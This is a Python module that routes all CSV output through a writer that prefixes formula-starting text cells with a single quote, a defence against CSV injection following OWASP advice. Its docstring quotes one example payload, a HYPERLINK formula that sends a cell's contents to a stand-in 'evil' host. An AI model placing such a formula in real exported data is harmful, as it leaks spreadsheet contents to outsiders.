"""CSV that a spreadsheet opens as data: every CSV writer in SecondLine goes through here.

A text cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is run as a formula when the file is opened:
a ticket subject like ``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet or run a
command. OWASP's advice (CSV Injection) is to prefix such a cell with a single quote, which
shows the text as written. Numbers are written as numbers: a negative amount stays -120.00.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> object:
    """The value as it may go into a CSV cell: text that would start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class Writer:
    """``csv.writer`` whose rows pass through :func:`cell`."""

    def __init__(self, stream: Any) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([cell(value) for value in row])


def writer(stream: Any) -> Writer:
    """Use instead of ``csv.writer``: tests/test_codebase.py fails on any other CSV writer."""
    return Writer(stream)
